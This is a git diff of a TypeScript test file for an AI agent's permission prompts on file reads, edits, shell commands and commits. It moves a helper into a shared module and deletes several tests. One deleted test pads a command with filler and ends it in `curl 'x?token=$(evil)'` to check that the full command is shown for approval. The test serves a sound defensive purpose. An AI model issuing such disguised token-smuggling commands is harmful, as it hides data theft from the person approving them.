@@ -4,53 +4,8 @@ import { join } from "node:path";
 import { describe, it } from "node:test";
 
 import { Offer } from "../../tool/offer.ts";
-import { AgentRig, type AgentRigOptions } from "../../../test/agent/agent-rig.ts";
-import { FakeLlm, type ScriptedCall } from "../../../test/agent/fake-llm.ts";
-import {
-  ALLOW,
-  REJECT,
-  type SampleTurn,
-  type SampleTurnOptions,
-} from "../../../test/agent/sample-turn.ts";
-
-interface Called {
-  readonly turn: SampleTurn;
-  /** What the model was answered. */
-  readonly answers: string[];
-  /** The code of each failure that has one. */
-  readonly codes: (number | undefined)[];
-}
-
-/** Has tools called in one go, in a workspace that `prepare` fills. */
-async function call(
-  calls: readonly ScriptedCall[],
-  options: AgentRigOptions & {
-    readonly prepare?: (rig: AgentRig) => void;
-    readonly turn?: Partial<SampleTurnOptions>;
-    readonly check?: (rig: AgentRig, called: Called) => void | Promise<void>;
-  } = {},
-): Promise<Called> {
-  const { prepare, turn: turnOptions, check, ...parts } = options;
-  await using llm = await FakeLlm.start([{ toolCalls: calls }, { content: "Done." }]);
-  await using rig = new AgentRig({ llm, ...parts });
-  prepare?.(rig);
-  const { turn } = await rig.turn({ prompt: "go", ...turnOptions });
-  const messages = llm.requests[1]?.messages ?? [];
-  const answers = messages
-    .filter(({ role }) => role === "tool")
-    .map(({ content }) => String(content));
-  const codes = turn.ofKind("tool_call").map(({ toolCallId }) => {
-    const last = turn.updates.findLast((update) => update.toolCallId === toolCallId);
-    return (last?.rawOutput as { error?: { code?: number } } | undefined)?.error?.code;
-  });
-  const called = { turn, answers, codes };
-  await check?.(rig, called);
-  return called;
-}
-
-const read = (path: string, more: object = {}): ScriptedCall => {
-  return { name: "read_file", arguments: { path, ...more } };
-};
+import { call, read } from "../../../test/agent/call-tools.ts";
+import { ALLOW } from "../../../test/agent/sample-turn.ts";
 
 describe("files that cannot be read", () => {
   it("are refused with the codes of the specification", async () => {
@@ -124,24 +79,6 @@ describe("changes of files", () => {
     assert.match(diff?.newText ?? "", /line 19999\nchanged\nline 20001/);
     assert.ok((diff?.newText.length ?? Infinity) < 2_000);
     assert.ok(Array.isArray(turn.asked[0]?.toolCall.locations));
-    assert.deepEqual(turn.ends, ["completed"]);
-  });
-
-  it("of any size are asked about with every line that changes", async () => {
-    const lines = Array.from({ length: 8_000 }, (_, index) => `line ${index}`);
-    const text = lines.map((line) => `changed ${line}`).join("\n");
-    const { turn } = await call(
-      [{ name: "write_file", arguments: { path: "big", content: text } }],
-      {
-        files: { big: lines.join("\n") },
-      },
-    );
-    const [diff] = (turn.asked[0]?.toolCall.content ?? []) as {
-      newText: string;
-      oldText: string;
-    }[];
-    assert.equal(diff?.newText, text);
-    assert.equal(diff?.oldText, lines.join("\n"));
     assert.deepEqual(turn.ends, ["completed"]);
   });
 
@@ -223,50 +160,6 @@ describe("run_command", () => {
     const { turn } = await call([{ name: "run_command", arguments: { command } }]);
     assert.equal(turn.asked[0]?.toolCall.title, command);
     assert.equal(turn.asked[0]?.subject, `run ${command}`);
-  });
-
-  it("is asked about with the whole command also where that is long, or looks like a secret", async () => {
-    const filler = "echo hello world; ".repeat(2_000);
-    const command = `${filler}curl 'x?token=$(evil)'\necho last`;
-    const { turn } = await call([{ name: "run_command", arguments: { command } }], {
-      turn: { decide: () => REJECT },
-    });
-    const { title, content, rawInput } = turn.asked[0]?.toolCall as Record<string, unknown>;
-    assert.equal(title, command.replace("\n", " ⏎ "));
-    assert.deepEqual(rawInput, { command });
-    const [shown] = content as { content: { text: string } }[];
-    assert.equal(shown?.content.text, `\`\`\`\n${command}\n\`\`\``);
-    const [told] = turn.ofKind("tool_call");
-    assert.ok(String(told?.title).length <= 301, "what is only told stays small");
-  });
-
-  it("says in the label of always what it stands for, and in which folder", async () => {
-    const run = (cwd: string) => ({ name: "run_command", arguments: { command: "true", cwd } });
-    const edit = { name: "write_file", arguments: { path: "a", content: "x" } };
-    const commit = { name: "git_commit", arguments: { message: "m" } };
-    const { turn } = await call([run("."), run("sub"), edit, commit], {
-      files: { "sub/x": "" },
-      check: (rig, { turn: { asked } }) => {
-        const always = asked.map(({ options }) =>
-          options.find(({ optionId }) => optionId === "always"),
-        );
-        assert.deepEqual(
-          always.map((option) => option?.name),
-          [
-            `Always allow in ${rig.cwd}: exactly this command`,
-            `Always allow in ${rig.cwd}: exactly this command in sub`,
-            `Always allow in ${rig.cwd}: every change of a file`,
-            `Always allow in ${rig.cwd}: every git commit, of any files and with any message`,
-          ],
-        );
-      },
-    });
-    assert.deepEqual(
-      turn.asked.map(({ subject }) => subject),
-      ["run true", "run true in sub", "edit files", "git commit"],
-    );
-    assert.match(JSON.stringify(turn.asked[1]?.toolCall.content), /In sub:/);
-    assert.match(JSON.stringify(turn.asked[3]?.toolCall.content), /message.*m/);
   });
 });
 
